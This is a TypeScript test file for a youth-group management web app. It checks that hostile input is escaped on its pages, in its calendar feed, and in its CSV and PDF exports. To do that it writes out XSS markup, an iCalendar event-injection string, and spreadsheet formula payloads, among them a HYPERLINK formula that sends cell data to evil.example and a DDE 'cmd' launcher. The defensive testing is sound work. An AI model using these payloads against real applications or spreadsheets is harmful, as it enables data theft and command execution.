import { inflateSync } from 'node:zlib';
import { expect } from 'chai';
import { appOnDemo, csrfFrom, visibleText, type Agent } from '../support/http.js';
import { testDb } from '../support/database.js';
import type { DemoIds } from '../../src/demo/demo-data.js';
import { expectEscaped, MARKUP } from './support.js';

/**
 * Markup typed into a group, a youth and a session, followed to every place it is shown: the group and
 * youth pages, the lists, the register, the youth's journey, the calendar feed, and the director's
 * dashboard with its CSV and PDF exports. Pages must show it as text; the feed and the CSV must keep it
 * from becoming a property or a formula.
 */

const SCRIPT = MARKUP[0];
const IMG = MARKUP[1];
const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")', '+33 6 12 34 56 78', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)'];

/** The text a PDF made by pdfkit draws: its content streams inflated, the hex and literal strings decoded. */
function pdfText(pdf: Buffer): string {
  const raw = pdf.toString('latin1');
  let out = '';
  for (const m of raw.matchAll(/stream\r?\n([\s\S]*?)endstream/g)) {
    let content: string;
    try {
      content = inflateSync(Buffer.from(m[1]!, 'latin1')).toString('latin1');
    } catch {
      content = m[1]!;
    }
    for (const s of content.matchAll(/\[((?:<[0-9a-fA-F]*>|\((?:\\.|[^\\)])*\)|[-\d.\s])*)\]\s*TJ|<([0-9a-fA-F]*)>\s*Tj|\(((?:\\.|[^\\)])*)\)\s*Tj/g)) {
      const parts = s[1] !== undefined ? [...s[1].matchAll(/<([0-9a-fA-F]*)>|\(((?:\\.|[^\\)])*)\)/g)].map((p) => p[1] !== undefined ? Buffer.from(p[1], 'hex').toString('latin1') : p[2]!.replace(/\\(.)/g, '$1')) : [s[2] !== undefined ? Buffer.from(s[2], 'hex').toString('latin1') : s[3]!.replace(/\\(.)/g, '$1')];
      out += parts.join('') + '\n';
    }
  }
  return out;
}

describe('bad input: markup and formulas shown everywhere as text', function () {
  this.timeout(60_000);
  let ids: DemoIds;
  let karim: Agent;
  let director: Agent;
  let ines: Agent;
  let groupId: number;
  let enrolmentId: number;
  let meetingId: number;

  async function send(agent: Agent, page: string, action: string, fields: Record<string, string>) {
    const form = await agent.get(page);
    const res = await agent.post(action).type('form').send({ ...fields, _csrf: csrfFrom(form.text) });
    expect(res.status, `${action}: ${visibleText(res.text).slice(0, 300)}`).to.equal(303);
    return res;
  }

  before(async () => {
    ({ ids, karim, director, ines } = await appOnDemo('karim', 'director', 'ines'));
    // Inès's own group, so her journey page shows it: its name, theme and place are the markup.
    groupId = ids.groups.sadiola;
    const group = await testDb()('groups').where({ id: groupId }).first();
    await send(karim, `/groups/${groupId}/edit`, `/groups/${groupId}`, {
      name: `${SCRIPT} Sadiola`, destinationCountry: 'ML', destinationPlace: IMG, partnerName: SCRIPT,
      theme: IMG, departureDate: group.departure_date, returnDate: group.return_date, minAttendancePct: '60',
    });
    const youth = await send(karim, `/groups/${groupId}/youths/new`, `/groups/${groupId}/youths`, { firstName: SCRIPT, lastName: IMG, birthDate: '2007-07-07', referredBy: SCRIPT });
    enrolmentId = Number(/\/youths\/(\d+)/.exec(youth.headers.location)![1]);
    // A session today, so its register is open, with the markup and an attempt to add a line to the feed.
    const today = new Date().toISOString().slice(0, 10);
    await send(karim, `/groups/${groupId}/meetings/new`, `/groups/${groupId}/meetings`, {
      date: today, time: '23:30', durationMinutes: '30', type: 'other', phase: 'preparation', place: IMG,
      notes: `${SCRIPT}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injecté;x,y\\`,
    });
    meetingId = Number((await testDb()('meetings').where({ group_id: groupId }).orderBy('id', 'desc').first('id')).id);
    // Groups whose names are formulas, for the funders' spreadsheet, in a structure named like one (the
    // platform's admin types structures' names).
    await testDb()('structures').where({ id: group.structure_id }).update({ name: '=1+1' });
    for (const name of FORMULAS) {
      await send(karim, '/groups/new', '/groups', {
        name, destinationCountry: 'SN', theme: SCRIPT,
        departureDate: '2027-05-01', returnDate: '2027-05-20', minAttendancePct: '60',
      });
    }
  });

  const pages: [who: 'karim' | 'director' | 'ines', path: () => string, markup: readonly string[]][] = [
    ['karim', () => `/groups/${groupId}`, [SCRIPT, IMG]],
    ['karim', () => '/groups', [SCRIPT]],
    ['karim', () => '/', [SCRIPT]],
    ['karim', () => `/groups/${groupId}/youths/${enrolmentId}`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/youths/${enrolmentId}/edit`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/meetings`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/meetings/${meetingId}`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/meetings/${meetingId}/edit`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/documents`, [SCRIPT, IMG]],
    ['karim', () => `/groups/${groupId}/media`, [SCRIPT]],
    ['karim', () => `/groups/${groupId}/edit`, [SCRIPT, IMG]],
    ['director', () => `/groups/${groupId}`, [SCRIPT, IMG]],
    ['director', () => '/groups', [SCRIPT]],
    ['director', () => '/reports', []],
    ['director', () => '/reports/groups?figure=all', [SCRIPT]],
    ['ines', () => '/me', [SCRIPT]],
    ['ines', () => `/groups/${groupId}`, [SCRIPT, IMG]],
  ];

  for (const [who, path, markup] of pages) {
    // The route as written in the source above, for the test's name: `/groups/${groupId}` reads /groups/:id.
    const route = /`([^`]*)`|'([^']*)'|"([^"]*)"/.exec(path.toString())!.slice(1).find((x) => x !== undefined)!.replace(/\$\{(\w+)\}/g, (_m, v: string) => `:${v.replace(/Id$/, '') === 'group' ? 'id' : v}`);
    it(`GET ${route} as ${who}: ${markup.length ? markup.join(' and ') + ' shown as text' : 'no live markup'}`, async () => {
      const agent = { karim, director, ines }[who];
      const res = await agent.get(path());
      expect(res.status, path()).to.equal(200);
      for (const m of markup) expectEscaped(res.text, m as (typeof MARKUP)[number], `${who} ${path()}`);
      expect(res.text).not.to.include('<script>alert(1)</script>').and.not.to.match(/<img src=x onerror/i);
    });
  }

  it('keeps the markup as text in the calendar feed, and a typed line break cannot start a new event', async () => {
    const token = (await testDb()('groups').where({ id: groupId }).first('calendar_token')).calendar_token;
    const res = await karim.get(`/calendar/${token}.ics`);
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.match(/^text\/calendar/);
    const unfolded = res.text.replace(/\r\n /g, '');
    const meetings = Number((await testDb()('meetings').where({ group_id: groupId }).count('* as n'))[0]!.n);
    expect(unfolded.match(/^BEGIN:VEVENT$/gm)).to.have.length(meetings);
    expect(unfolded).not.to.match(/^SUMMARY:Injecté/m);
    expect(unfolded).to.include('<script>alert(1)</script>\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Injecté\\;x\\,y\\\\');
    expect(unfolded).to.include('"><img src=x onerror=alert(1)>');
  });

  it('neutralises formulas in the groups CSV: =, +, -, @ become text, and the markup stays plain text', async () => {
    const res = await director.get('/reports/export/groups.csv');
    expect(res.status, res.text.slice(0, 200)).to.equal(200);
    expect(res.headers['content-type']).to.match(/^text\/csv/);
    const csv = res.text;
    expect(csv).to.include(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Cliquez"")"`);
    expect(csv).to.include("'+33 6 12 34 56 78").and.include("'-2+3+cmd|' /C calc'!A0").and.include("'@SUM(1+1)").and.include("'=1+1");
    expect(csv).to.include(`${SCRIPT} Sadiola`);
    // No cell anywhere starts a formula: after a separator, a line start or an opening quote.
    for (const line of csv.replace(/^\uFEFF/, '').split('\r\n')) {
      for (const cell of line.split(';')) expect(cell.replace(/^"/, ''), line).not.to.match(/^[=+\-@]/);
    }
  });

  it('draws the markup and the formulas as plain text in the PDF report', async () => {
    const res = await director.get('/reports/report.pdf').buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).to.equal(200);
    const pdf = res.body as Buffer;
    expect(pdf.subarray(0, 5).toString()).to.equal('%PDF-');
    const text = pdfText(pdf);
    expect(text).to.include('Sadiola');
    expect(text.replace(/\n/g, '')).to.include(`${SCRIPT} Sadiola`);
  });
});
